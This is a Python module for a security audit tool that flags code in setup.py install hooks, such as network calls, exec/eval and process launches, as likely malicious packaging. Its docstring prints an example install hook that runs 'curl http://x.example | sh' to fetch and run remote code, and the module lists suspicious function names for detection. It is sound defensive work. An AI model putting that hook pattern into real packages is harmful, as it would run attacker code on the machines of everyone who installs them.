"""Code runs while the package is being installed.

`setup.py` runs before anybody could look at what was installed. A network call, a decoded text or
a started program there is how most malicious packages begin.

Found in `setup.py`:

    import os
    from setuptools import setup
    from setuptools.command.install import install
    class Hook(install):
        def run(self):
            os.system('curl http://x.example | sh')
    setup(name='x', cmdclass={'install': Hook})

Not found in `setup.py`:

    from setuptools import setup
    setup(name='x')
"""

import ast
import re
from collections.abc import Iterator

from heimnetz_audit.model import Check, Confidence, Hit, PythonModule, Severity
from heimnetz_audit.model.threats import NETWORK_MODULES

_PROCESS = frozenset({"system", "popen", "Popen", "call", "run", "check_call", "check_output",
                      "startfile", "spawn", "getoutput"})  # fmt: skip
_NETWORK = frozenset(
    {"urlopen", "urlretrieve", "get", "post", "request", "connect", "gethostbyname"}
)
_CODE = frozenset({"exec", "eval", "compile", "__import__"})
_HOOKS = re.compile(r"^(install|develop|egg_info|build_py|bdist_egg|sdist|build_ext|_install)$")


def _ask(module: PythonModule) -> Iterator[Hit]:
    if module.path.rpartition("/")[2] != "setup.py" and "cmdclass" not in module.text:
        return
    is_setup = module.path.rpartition("/")[2] == "setup.py"
    hooks = _hook_classes(module)
    if not is_setup and not hooks:
        return
    inside = {id(n) for cls in hooks for n in ast.walk(cls)}
    for node in module.nodes:
        if isinstance(node, ast.Call):
            found = _about(module, node)
            if found is not None and (is_setup or id(node) in inside):
                message, severity = found
                if id(node) in inside:
                    severity = max(severity, Severity.HIGH)
                yield Hit(
                    message=message,
                    severity=severity,
                    confidence=Confidence.MEDIUM,
                    line=node.lineno,
                    end_line=node.end_lineno or node.lineno,
                )


def _about(module: PythonModule, node: ast.Call) -> tuple[str, Severity] | None:
    name = node.func.attr if isinstance(node.func, ast.Attribute) else getattr(node.func, "id", "")
    owner = node.func.value if isinstance(node.func, ast.Attribute) else None
    root = owner.id if isinstance(owner, ast.Name) else ""
    if name in _NETWORK and (root in NETWORK_MODULES or name.startswith("url")):
        return "The installation talks to another machine.", Severity.HIGH
    if isinstance(node.func, ast.Name) and name in _CODE and not _reads_file(node):
        return "The installation executes a text as code.", Severity.MEDIUM
    if name in _PROCESS and (root in ("os", "subprocess") or name in ("Popen", "check_call")):
        return "The installation starts a program.", Severity.LOW
    return None


def _reads_file(node: ast.Call) -> bool:
    """`exec(open("version.py").read())` is how many packages share their version."""
    return any(
        (isinstance(n, ast.Attribute) and n.attr in ("read", "read_text"))
        or (isinstance(n, ast.Constant) and isinstance(n.value, str) and n.value.endswith(".py"))
        for argument in node.args
        for n in ast.walk(argument)
    )


def _hook_classes(module: PythonModule) -> list[ast.ClassDef]:
    found = []
    for node in module.nodes:
        if isinstance(node, ast.ClassDef):
            bases = [
                b.id if isinstance(b, ast.Name) else getattr(b, "attr", "") for b in node.bases
            ]
            if any(_HOOKS.match(base) for base in bases):
                found.append(node)
    return found


CHECK = Check(
    rule="install-hook",
    title="Code that runs at installation",
    cwe=506,
    severity=Severity.HIGH,
    remedy="Declare the package in pyproject.toml, without code that runs at installation.",
    module=_ask,
)
